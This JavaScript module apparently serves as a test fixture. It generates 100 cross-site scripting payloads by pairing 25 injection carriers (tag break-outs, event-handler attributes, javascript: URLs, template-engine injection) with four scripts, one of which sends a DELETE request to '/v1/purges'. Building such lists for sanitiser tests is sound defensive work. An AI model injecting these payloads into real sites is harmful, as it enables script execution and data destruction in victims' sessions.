// A hundred texts that would run a script where a page took them for markup, an address or a template.

const RUN = "document.title='pwned'";

const CARRIERS = [
  (js) => `<script>${js}</script>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><script>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</style><script>${js}</script>`,
  (js) => `--><script>${js}</script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `"><img src=x onerror="${js}">`,
  (js) => `'><img src=x onerror='${js.replaceAll("'", '"')}'>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x>`,
  (js) => `<body onload=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js) => `<iframe src="javascript:parent.${js}">`,
  (js) => `<math><mtext><style><img src onerror=${js}></style>`,
  (js) => `" onmouseover="${js}" autofocus onfocus="${js}`,
  (js) => `' onmouseover='${js.replaceAll("'", '"')}`,
  (js) => `javascript:${js}`,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `<a href="javascript:${js}" id=main>main</a>`,
];
const SCRIPTS = [RUN, "alert('pwned')", "fetch('/v1/purges',{method:'DELETE'})", `top.${RUN}`];

export const HOSTILE = SCRIPTS.flatMap((script) => CARRIERS.map((carry) => carry(script)));
